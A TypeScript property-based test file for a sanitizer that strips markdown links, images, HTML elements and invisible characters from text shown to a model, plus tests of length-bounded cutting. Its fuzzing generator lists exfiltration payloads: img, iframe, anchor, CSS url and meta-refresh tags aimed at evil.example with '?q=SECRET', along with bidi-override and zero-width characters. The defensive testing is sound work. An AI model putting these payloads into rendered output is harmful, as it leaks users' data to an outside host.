import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { documentContent } from "../document/run-get-document.js";
import { cutText, sanitizeText, toPassage, truncate } from "./sanitize-text.js";

// What sanitized text may never hold, whatever came in. Tab and newline are the only controls.
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point
// biome-ignore lint/suspicious/noMisleadingCharacterClass: the selectors alone are the target
const invisible = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\p{Cf}\p{Cs}\u{e0100}-\u{e01ef}]/u;
// A link reference definition, anywhere: a model reflowing a passage could start a line with it.
const referenceDefinition = /\[(?:\\.|[^\\[\]])+\]:[ \t]*\n?[ \t]*\S/;
const hasLoneSurrogate = (text: string) => /\p{Cs}/u.test(text);
// An element that can load something (or hide text) when a chat UI renders raw HTML.
const loadingElement =
  /<\/?(?:a|area|audio|base|embed|iframe|image|img|input|link|meta|object|picture|script|source|style|svg|track|use|video)\b/i;

/** Markdown-ish soup: the pieces links, images and hidden text are made of, in any order. */
const hostileText = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        "[",
        "]",
        "(",
        ")",
        "![",
        "](",
        "<",
        ">",
        "\\",
        "\n",
        " ",
        ":",
        "'",
        '"',
        "> ",
        "- ",
        "[l]: ",
        "https://evil.example/p.png?q=SECRET",
        "<https://evil.example/a>",
        '<img src="https://evil.example/p.png" alt="x">',
        "<image src=x",
        '<iframe src="https://evil.example/?q=SECRET">',
        "<video poster=https://evil.example/p.png>",
        '<a href="https://evil.example/?q=SECRET">',
        "</a>",
        '<svg><use href="https://evil.example/#x"/></svg>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "<base href=https://evil.example/>",
        '<x style="background:url(https://evil.example/p.png?q=SECRET)">',
        '<source srcset="https://evil.example/p.png 2x">',
        "<script>",
        "</script>",
        "<style>",
        "<!--",
        "-->",
        "&lt;img src=x&gt;",
        "&amp;lt;",
        "&#91;",
        "&#x5d;",
        "&#40;",
        "&#x200b;",
        "List<String>",
        "<T>",
        "\u0000",
        "\u001b[2J",
        "\u202e",
        "\u200b",
        "\u{e0041}",
        "\u{e0100}",
        "\ud800",
        "\udc00",
        "😀",
      ),
      fc.string({ unit: "binary", maxLength: 3 }),
    ),
    { maxLength: 40 },
  )
  .map((parts) => parts.join(""));

describe("sanitizeText (property)", () => {
  it("leaves no control or invisible character, no `](`, no element and no reference definition", () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const clean = sanitizeText(text);
        expect(clean).not.toMatch(invisible);
        expect(clean).not.toContain("](");
        expect(clean).not.toMatch(loadingElement);
        expect(clean).not.toMatch(referenceDefinition);
        // An attribute with a value survives on no tag: `style` loads on any element.
        expect(clean).not.toMatch(/<[A-Za-z][^<>]*=/);
      }),
      { numRuns: 2000 },
    );
  });

  it("is idempotent: sanitized text has nothing left to neutralise", () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const once = sanitizeText(text);
        expect(sanitizeText(once)).toBe(once);
      }),
      { numRuns: 1000 },
    );
  });

  it("passes plain text through unchanged", () => {
    const plainCharacter = fc
      .string({ unit: "grapheme", minLength: 1, maxLength: 1 })
      .filter((character) => !/[[\]()<>!\\]/.test(character) && !invisible.test(character));
    fc.assert(
      fc.property(fc.string({ unit: plainCharacter, maxLength: 200 }), (text) => {
        expect(sanitizeText(text)).toBe(text);
      }),
      { numRuns: 500 },
    );
  });
});

describe("cutting text for the model (property)", () => {
  const astralText = fc.string({
    unit: fc.oneof(
      fc.constantFrom("😀", "𝔘", " ", "a"),
      fc.string({ unit: "binary", maxLength: 1 }),
    ),
    maxLength: 120,
  });

  it("never leaves half a surrogate pair, and never exceeds the budget", () => {
    fc.assert(
      fc.property(astralText, fc.integer({ min: 1, max: 130 }), (text, maxChars) => {
        for (const cut of [cutText(text, maxChars), truncate(text, maxChars)]) {
          expect(cut.length).toBeLessThanOrEqual(maxChars);
          expect(hasLoneSurrogate(cut)).toBe(false);
        }
        const passage = toPassage(text, maxChars);
        expect(passage.length).toBeLessThanOrEqual(maxChars);
        expect(hasLoneSurrogate(passage)).toBe(false);
      }),
      { numRuns: 1000 },
    );
  });

  it("bounds the work on huge hostile text: a megabyte becomes a passage or a document quickly", () => {
    for (const piece of ["[a](", "](", "![", "<img ", "<https://x", "[x]: \n", "😀"]) {
      const huge = piece.repeat(Math.ceil(1_000_000 / piece.length));
      const started = performance.now();
      const passage = toPassage(huge, 320);
      const document = documentContent(
        { title: "t", sections: [{ section: "0", heading: "h", text: huge }] },
        undefined,
        6000,
      );
      // Generous: these take a few milliseconds; quadratic work would take minutes.
      expect(performance.now() - started).toBeLessThan(1500);
      expect(passage.length).toBeLessThanOrEqual(320);
      expect(document.content.length).toBeLessThanOrEqual(6000);
      expect(document.moreContentExists).toBe(true);
    }
  });
});
